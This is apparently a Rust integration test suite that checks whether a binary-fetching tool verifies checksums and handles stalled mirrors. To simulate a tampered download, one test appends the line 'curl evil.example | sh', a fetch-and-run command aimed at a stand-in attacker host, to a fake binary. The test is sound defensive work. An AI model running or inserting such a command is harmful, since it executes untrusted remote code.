//! `ckslab fetch-binaries` against a local HTTP server that serves the official layout (no
//! internet here): a good mirror, a tampered binary, a missing checksum, a server that stalls.

use std::collections::HashMap;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::extract::{Path as UrlPath, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use ckslab::fetch::{self, FetchError, FetchOptions, sources};
use ckslab::tools::LOCAL_BINARIES;
use indicatif::ProgressBar;
use sha2::{Digest, Sha256, Sha512};

#[derive(Clone, Default)]
struct Mirror {
    files: Arc<HashMap<String, Vec<u8>>>,
    /// Paths whose body stops after a few bytes and never ends.
    stall: Arc<Vec<String>>,
}

async fn serve_file(State(mirror): State<Mirror>, UrlPath(path): UrlPath<String>) -> Response {
    if mirror.stall.contains(&path) {
        let head = futures::stream::once(async { Ok::<_, std::io::Error>(bytes::Bytes::from_static(b"\x7fELF")) });
        let body = Body::from_stream(futures::StreamExt::chain(head, futures::stream::pending()));
        return Response::builder().header("content-length", "1000000").body(body).unwrap();
    }
    match mirror.files.get(&path) {
        Some(data) => data.clone().into_response(),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

async fn start(mirror: Mirror) -> String {
    let app = axum::Router::new().route("/{*path}", axum::routing::get(serve_file)).with_state(mirror);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

fn fake_binary(name: &str) -> Vec<u8> {
    format!("#!/bin/sh\necho {name} official\n").into_bytes()
}

fn tar_gz(members: &[(String, Vec<u8>)]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut tar = tar::Builder::new(gz);
    for (path, data) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o755);
        tar.append_data(&mut header, path, data.as_slice()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

/// The official layout with every checksum in place, keyed by URL path (no leading slash).
fn layout() -> HashMap<String, Vec<u8>> {
    let mut files = HashMap::new();
    let path = |url: &str| url.splitn(4, '/').nth(3).unwrap().to_string();
    for download in sources::downloads(Some("http://m")) {
        let data = match &download.payload {
            sources::Payload::Binary { name } => fake_binary(name),
            sources::Payload::TarGz { members } => {
                let mut entries: Vec<_> = members.iter().map(|(m, n)| (m.clone(), fake_binary(n))).collect();
                entries.push(("etcd-v3.6.5-linux-amd64/README.md".into(), b"docs".to_vec()));
                tar_gz(&entries)
            }
        };
        let checksum = match &download.checksum {
            sources::Checksum::Sha512File { .. } => hex::encode(Sha512::digest(&data)).into_bytes(),
            sources::Checksum::Sha256Sums { entry, .. } => {
                format!("{}  something-else.tar.gz\n{}  {entry}\n", "0".repeat(64), hex::encode(Sha256::digest(&data)))
                    .into_bytes()
            }
        };
        files.insert(path(download.checksum.url()), checksum);
        files.insert(path(&download.url), data);
    }
    files
}

fn options(bin: &Path, mirror: &str) -> FetchOptions {
    let mut options = FetchOptions::new(bin.to_path_buf(), Some(mirror.to_string()));
    options.read_timeout = Duration::from_secs(1);
    options.connect_timeout = Duration::from_secs(2);
    options
}

/// Every file in the bin dir, hidden ones too (a half-written download would show here).
fn listing(bin: &Path) -> Vec<String> {
    let mut names: Vec<_> = match std::fs::read_dir(bin) {
        Ok(dir) => dir.map(|e| e.unwrap().file_name().to_string_lossy().to_string()).collect(),
        Err(_) => Vec::new(),
    };
    names.sort();
    names
}

#[tokio::test]
async fn a_good_mirror_installs_every_binary_verified() {
    let url = start(Mirror { files: Arc::new(layout()), ..Default::default() }).await;
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("bin/v1.34.4");
    let report = fetch::fetch(&options(&bin, &url), &ProgressBar::hidden()).await.unwrap();
    assert!(report.failed.is_empty(), "{:?}", report.failed);
    let mut expected: Vec<String> = LOCAL_BINARIES.iter().map(|s| s.to_string()).collect();
    expected.sort();
    assert_eq!(listing(&bin), expected, "exactly the binaries, no leftovers");
    for name in LOCAL_BINARIES {
        let path = bin.join(name);
        assert_eq!(std::fs::read(&path).unwrap(), fake_binary(name), "{name}");
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o755, "{name}");
    }
    let kubectl = report.installed.iter().find(|v| v.name == "kubectl").unwrap();
    assert_eq!(kubectl.algorithm, "sha512");
    assert_eq!(kubectl.digest, hex::encode(Sha512::digest(fake_binary("kubectl"))));
    assert!(kubectl.checksum_url.ends_with("/release/v1.34.4/bin/linux/amd64/kubectl.sha512"));
    let etcd = report.installed.iter().find(|v| v.name == "etcd").unwrap();
    assert_eq!(etcd.algorithm, "sha256");

    // A second run has nothing to do.
    let again = fetch::fetch(&options(&bin, &url), &ProgressBar::hidden()).await.unwrap();
    assert!(again.installed.is_empty());
    assert_eq!(again.cached.len(), LOCAL_BINARIES.len());
}

#[tokio::test]
async fn a_tampered_binary_installs_nothing_at_all() {
    let mut files = layout();
    let key = "release/v1.34.4/bin/linux/amd64/kube-scheduler".to_string();
    let mut data = files[&key].clone();
    data.extend_from_slice(b"echo pwned\n");
    files.insert(key, data);
    let url = start(Mirror { files: Arc::new(files), ..Default::default() }).await;
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("bin");
    let err = fetch::fetch(&options(&bin, &url), &ProgressBar::hidden()).await.unwrap_err();
    match &err {
        FetchError::Tampered { url, expected, actual, .. } => {
            assert!(url.ends_with("/kube-scheduler"), "{url}");
            assert_ne!(expected, actual);
        }
        other => panic!("expected Tampered, got {other:?}"),
    }
    let text = err.to_string();
    assert!(text.contains("expected sha512") && text.contains("nothing was installed"), "{text}");
    assert_eq!(listing(&bin), Vec::<String>::new(), "not even the binaries verified before it");
}

#[tokio::test]
async fn a_tampered_etcd_archive_is_refused_too() {
    let mut files = layout();
    let key = "etcd-io/etcd/releases/download/v3.6.5/etcd-v3.6.5-linux-amd64.tar.gz".to_string();
    files.insert(
        key,
        tar_gz(&[
            ("etcd-v3.6.5-linux-amd64/etcd".into(), b"evil".to_vec()),
            ("etcd-v3.6.5-linux-amd64/etcdctl".into(), b"evil".to_vec()),
        ]),
    );
    let url = start(Mirror { files: Arc::new(files), ..Default::default() }).await;
    let dir = tempfile::tempdir().unwrap();
    let err = fetch::fetch(&options(dir.path(), &url), &ProgressBar::hidden()).await.unwrap_err();
    assert!(matches!(err, FetchError::Tampered { algorithm: "sha256", .. }), "{err:?}");
    assert_eq!(listing(dir.path()), Vec::<String>::new());
}

#[tokio::test]
async fn a_missing_checksum_refuses_that_binary_with_a_clear_error() {
    let mut files = layout();
    files.remove("release/v1.34.4/bin/linux/amd64/kubectl.sha512");
    // A SHA256SUMS that lists other files only.
    files.insert(
        "kubernetes-sigs/kwok/releases/download/v0.7.0/checksums.txt".into(),
        format!("{}  kwokctl-linux-amd64\n", "1".repeat(64)).into_bytes(),
    );
    let url = start(Mirror { files: Arc::new(files), ..Default::default() }).await;
    let dir = tempfile::tempdir().unwrap();
    let report = fetch::fetch(&options(dir.path(), &url), &ProgressBar::hidden()).await.unwrap();
    let failed: HashMap<String, String> =
        report.failed.iter().map(|(names, err)| (names.join(","), err.to_string())).collect();
    assert_eq!(failed.len(), 2, "{failed:?}");
    assert!(
        failed["kubectl"].contains("kubectl.sha512: no checksum to verify it against (HTTP 404)"),
        "{}",
        failed["kubectl"]
    );
    assert!(failed["kwok"].contains("lists no SHA-256 for kwok-linux-amd64"), "{}", failed["kwok"]);
    let names = listing(dir.path());
    assert!(!names.contains(&"kubectl".to_string()) && !names.contains(&"kwok".to_string()), "{names:?}");
    assert_eq!(names, ["etcd", "etcdctl", "kube-apiserver", "kube-controller-manager", "kube-scheduler"]);
}

#[tokio::test]
async fn a_server_that_stalls_times_out_and_leaves_no_partial_file() {
    let stalled = "release/v1.34.4/bin/linux/amd64/kube-apiserver".to_string();
    let url = start(Mirror { files: Arc::new(layout()), stall: Arc::new(vec![stalled]) }).await;
    let dir = tempfile::tempdir().unwrap();
    let started = std::time::Instant::now();
    let report = fetch::fetch(&options(dir.path(), &url), &ProgressBar::hidden()).await.unwrap();
    assert!(started.elapsed() < Duration::from_secs(20), "the stall was cut by the 1s read timeout");
    assert_eq!(report.failed.len(), 1);
    let (names, err) = &report.failed[0];
    assert_eq!(names, &["kube-apiserver"]);
    assert!(matches!(err, FetchError::Stalled { secs: 1, .. }), "{err:?}");
    assert!(err.to_string().contains("sent nothing for 1s (stalled)"), "{err}");
    let names = listing(dir.path());
    assert!(!names.iter().any(|n| n.contains("kube-apiserver")), "no partial file: {names:?}");
}

#[tokio::test]
async fn a_server_that_never_answers_times_out() {
    // Accepts connections, never answers a request.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((socket, _)) = listener.accept().await {
            held.push(socket);
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let report = fetch::fetch(&options(dir.path(), &format!("http://{addr}")), &ProgressBar::hidden()).await.unwrap();
    assert_eq!(report.failed.len(), 6, "every download, none installed");
    assert!(report.failed.iter().all(|(_, e)| matches!(e, FetchError::Stalled { .. })), "{:?}", report.failed);
    assert_eq!(listing(dir.path()), Vec::<String>::new());
}

// scripts/fetch-prebuilt.sh: the prebuilt ckslab scripts/lab.sh downloads from a mirror.

const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";

fn prebuilt_path() -> String {
    format!("ckslab/{COMMIT}/ckslab-linux-{}", std::env::consts::ARCH)
}

fn prebuilt_mirror(binary: &[u8], checksum: Option<String>) -> HashMap<String, Vec<u8>> {
    let mut files = HashMap::new();
    files.insert(prebuilt_path(), binary.to_vec());
    if let Some(sum) = checksum {
        files.insert(format!("{}.sha256", prebuilt_path()), sum.into_bytes());
    }
    files
}

fn sha256_line(data: &[u8]) -> String {
    format!("{}  ckslab-linux-{}\n", hex::encode(Sha256::digest(data)), std::env::consts::ARCH)
}

/// Runs the script (off the runtime's threads, the mirror being served on them); its exit code
/// and error output.
async fn fetch_prebuilt(url: &str, out: &Path) -> (i32, String) {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/fetch-prebuilt.sh");
    let (url, out) = (url.to_string(), out.to_path_buf());
    tokio::task::spawn_blocking(move || {
        let output = std::process::Command::new(script)
            .args([url.as_str(), COMMIT, out.to_str().unwrap()])
            .env("CKSLAB_PREBUILT_STALL", "2")
            .output()
            .unwrap();
        (output.status.code().unwrap_or(-1), String::from_utf8_lossy(&output.stderr).into_owned())
    })
    .await
    .unwrap()
}

#[tokio::test]
async fn the_prebuilt_ckslab_is_installed_only_once_its_sha256_matches() {
    let binary = fake_binary("ckslab");
    let url =
        start(Mirror { files: Arc::new(prebuilt_mirror(&binary, Some(sha256_line(&binary)))), ..Default::default() })
            .await;
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("prebuilt/ckslab");
    let (code, err) = fetch_prebuilt(&url, &out).await;
    assert_eq!(code, 0, "{err}");
    assert_eq!(std::fs::read(&out).unwrap(), binary);
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o111, 0o111, "executable");
    assert_eq!(listing(out.parent().unwrap()), ["ckslab"], "no partial file left");
}

#[tokio::test]
async fn a_tampered_prebuilt_ckslab_is_refused_and_the_old_one_kept() {
    let binary = fake_binary("ckslab");
    let mut tampered = binary.clone();
    tampered.extend_from_slice(b"curl evil.example | sh\n");
    let url =
        start(Mirror { files: Arc::new(prebuilt_mirror(&tampered, Some(sha256_line(&binary)))), ..Default::default() })
            .await;
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("ckslab");
    std::fs::write(&out, b"the one there before").unwrap();
    let (code, err) = fetch_prebuilt(&url, &out).await;
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("refused, nothing installed") && err.contains(&hex::encode(Sha256::digest(&binary))), "{err}");
    assert_eq!(std::fs::read(&out).unwrap(), b"the one there before");
    assert_eq!(listing(dir.path()), ["ckslab"], "no partial file left");
}

#[tokio::test]
async fn a_prebuilt_ckslab_without_a_checksum_is_not_downloaded_at_all() {
    let binary = fake_binary("ckslab");
    for checksum in [None, Some("<html>not found</html>".to_string())] {
        let url =
            start(Mirror { files: Arc::new(prebuilt_mirror(&binary, checksum.clone())), ..Default::default() }).await;
        let dir = tempfile::tempdir().unwrap();
        let (code, err) = fetch_prebuilt(&url, &dir.path().join("ckslab")).await;
        assert_eq!(code, 1, "{checksum:?}: {err}");
        let reason = if checksum.is_none() { "no checksum for the prebuilt ckslab" } else { "holds no SHA-256 digest" };
        assert!(err.contains(reason), "{err}");
        assert_eq!(listing(dir.path()), Vec::<String>::new());
    }
}

#[tokio::test]
async fn a_mirror_that_stalls_mid_download_is_given_up_on() {
    let binary = fake_binary("ckslab");
    let mut files = prebuilt_mirror(&binary, Some(sha256_line(&binary)));
    files.remove(&prebuilt_path());
    let url = start(Mirror { files: Arc::new(files), stall: Arc::new(vec![prebuilt_path()]) }).await;
    let dir = tempfile::tempdir().unwrap();
    let started = std::time::Instant::now();
    let (code, err) = fetch_prebuilt(&url, &dir.path().join("ckslab")).await;
    assert_eq!(code, 1, "{err}");
    assert!(started.elapsed() < Duration::from_secs(15), "cut after 2 s below 1 byte/s: {:?}", started.elapsed());
    assert!(err.contains("downloading"), "{err}");
    assert_eq!(listing(dir.path()), Vec::<String>::new(), "no partial file");
}
